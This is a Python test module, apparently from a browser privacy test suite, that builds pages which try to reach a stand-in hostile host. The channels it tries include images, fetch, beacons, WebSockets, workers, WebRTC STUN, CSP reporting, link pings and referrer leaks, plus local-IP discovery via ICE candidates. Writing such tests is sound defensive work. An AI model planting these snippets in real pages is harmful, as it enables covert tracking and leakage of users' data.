"""B: parts of a page, and what leaves it without a page being opened."""

from tests.siege.acts import tap
from tests.siege.case import (
    AFTER,
    EVERYWHERE,
    EVIL,
    Bare,
    Case,
    allowed,
    both,
    hostile,
    referrers,
    told,
    touched,
)
from tests.siege.listener import Reply, Served
from tests.siege.navigation import script

#: A listener of its own, at a name that needs nobody to look it up; its port is put in for PORT.
NEAR = "https://evil.localhost:RAW"
#: That name may be found at another address first; this one is one.
_NUMBER = "https://127.0.0.1:RAW"
_LAN = "https://LAN:RAW"


def _sent(case: str, page: str, routes: dict[str, Served] | None = None) -> Case:
    """A page that asks the hostile side for something as it loads."""
    return Case(
        id=case,
        page=script("after(600)") + page,
        routes=routes or {},
        lands=hostile(f"/{case.partition('-')[0]}"),
        held=AFTER,
    )


def _code(case: str, code: str, routes: dict[str, Served] | None = None) -> Case:
    return _sent(case, f"<script>{code}</script>", routes)


def _worker(code: str) -> dict[str, Served]:
    return {"/worker.js": Reply(kind="text/javascript", body=code.encode())}


def _wire(case: str, page: str, *wires: str, wait_ms: int = 1_000) -> Case:
    """A page that makes the engine speak to a port without a request."""
    return Case(
        id=case,
        page=script(f"after({wait_ms})") + page,
        lands=touched("raw", *wires),
        held=AFTER,
    )


_STUN = """<script>
const peer = new RTCPeerConnection({iceServers: [{urls: 'stun:%s:RAW'}]});
peer.createDataChannel('x');
peer.createOffer().then((offer) => peer.setLocalDescription(offer));
</script>"""
_TRANSPORT = "new WebTransport('%s/B1').ready.catch(() => 0)"

REQUESTS = (
    _sent("B01-img", f"<img src={EVIL}/B01>"),
    _sent("B01-script", f"<script src={EVIL}/B01></script>"),
    _sent("B01-css", f"<link rel=stylesheet href={EVIL}/B01>"),
    _sent(
        "B01-font",
        f"<style>@font-face {{font-family: f; src: url({EVIL}/B01)}} p {{font-family: f}}</style><p>x",
    ),
    _sent("B01-video", f"<video src={EVIL}/B01 poster={EVIL}/B01 preload=auto></video>"),
    _sent("B01-audio", f"<audio src={EVIL}/B01 preload=auto></audio>"),
    _code("B02-fetch", f"fetch('{EVIL}/B02', {{mode: 'no-cors'}}).catch(() => 0)"),
    _code("B02-xhr", f"const it = new XMLHttpRequest(); it.open('GET', '{EVIL}/B02'); it.send()"),
    _code("B03", f"navigator.sendBeacon('{EVIL}/B03', 'x')"),
    _code("B04", f"new EventSource('{EVIL}/B04')"),
    _code("B05", f"new WebSocket('{EVIL.replace('https', 'wss')}/B05')"),
    Case(
        id="B06",
        page=script("") + f"<a href='/next' ping='{EVIL}/B06' style='{EVERYWHERE}'>Go</a>",
        routes={"/next": Reply(body=script("after()").encode())},
        act=(tap,),
        lands=hostile("/B06"),
        held=AFTER,
    ),
    _code("B07", "new Worker('/worker.js')", _worker(f"fetch('{EVIL}/B07', {{mode: 'no-cors'}})")),
    _code(
        "B08",
        "new SharedWorker('/worker.js')",
        _worker(f"fetch('{EVIL}/B08', {{mode: 'no-cors'}})"),
    ),
    _code(
        "B09",
        "navigator.serviceWorker.register('/worker.js')",
        _worker(f"oninstall = (it) => it.waitUntil(fetch('{EVIL}/B09', {{mode: 'no-cors'}}))"),
    ),
    _wire("A30-preconnect", f"<link rel=preconnect href={NEAR}>", "tcp"),
    _wire(
        "A30-dns-prefetch", f"<link rel=dns-prefetch href={NEAR}><link rel=preconnect href={NEAR}>"
    ),
    _wire("B10", f"<script>{_TRANSPORT % _NUMBER}</script>", "udp"),
    Case(
        id="B11",
        page=script("after(1000); new Worker('/worker.js')"),
        routes=_worker(_TRANSPORT % _NUMBER),
        lands=touched("raw", "udp"),
        held=AFTER,
    ),
    _wire("B12-name", _STUN % "evil.localhost", "udp"),
    _wire("B12-number", _STUN % "LAN", "udp"),
    Case(
        id="B13",
        page=script(
            "const peer = new RTCPeerConnection(); peer.createDataChannel('x');"
            "peer.onicecandidate = (it) => it.candidate && /typ host/.test(it.candidate.candidate)"
            " && !/\\.local /.test(it.candidate.candidate) && tell('bare ' + it.candidate.candidate);"
            "peer.createOffer().then((offer) => peer.setLocalDescription(offer)); after(800)"
        ),
        lands=told("bare"),
        held=AFTER,
        bare=Bare.REFUSES,
    ),
    Case(
        id="B14-csp",
        page=script("after(600)") + "<img src=https://care.test/other.png>",
        headers=(("Content-Security-Policy", f"img-src 'none'; report-uri {EVIL}/B14"),),
        lands=hostile("/B14"),
        held=AFTER,
    ),
    Case(
        id="B14-error",
        page=script("after(2000)") + "<img src=https://nowhere.care.test/B14-gone>",
        headers=(
            ("Report-To", f'{{"group":"x","max_age":60,"endpoints":[{{"url":"{EVIL}/B14"}}]}}'),
            ("Reporting-Endpoints", f'x="{EVIL}/B14"'),
            ("NEL", '{"report_to":"x","max_age":60,"success_fraction":1.0}'),
            ("Content-Security-Policy", "img-src 'none'; report-to x"),
        ),
        lands=hostile("/B14"),
        held=AFTER,
        bare=Bare.REFUSES,
    ),
    # The engine looks for icons in the head alone.
    _code("B15", f"document.head.innerHTML += '<link rel=icon href={EVIL}/B15>'"),
    Case(
        id="B16",
        begin="https://b16.care.test/form?name=typed-words",
        routes={
            "/form": Reply(
                body=(
                    script("after()")
                    + "<meta name=referrer content=unsafe-url><img src=https://parts.test/B16.png>"
                ).encode()
            )
        },
        lands=lambda events: any("typed-words" in each for each in referrers(events)),
        held=both(AFTER, allowed("/B16.png")),
    ),
    Case(
        id="B17-script",
        page=script("after(600)") + "<script src=http://evil.test/B17></script>",
        lands=hostile("/B17"),
        held=AFTER,
    ),
    Case(
        id="B17-frame",
        page=script("after(600)") + "<iframe src=http://evil.test/B17></iframe>",
        lands=hostile("/B17"),
        held=AFTER,
    ),
    *(
        Case(
            id=f"B18-{kind}",
            page=script("after(800)") + page.replace("TO", to),
            lands=touched("raw"),
            held=AFTER,
        )
        for name, to in (("loopback", _NUMBER), ("lan", _LAN))
        for kind, page in {
            f"img-{name}": "<img src=TO/B18>",
            f"fetch-{name}": "<script>fetch('TO/B18', {mode: 'no-cors'}).catch(() => 0)</script>",
            f"socket-{name}": "<script>new WebSocket('TO/B18'.replace('https', 'wss'))</script>",
            f"connect-{name}": "<link rel=preconnect href=TO>",
        }.items()
    ),
)
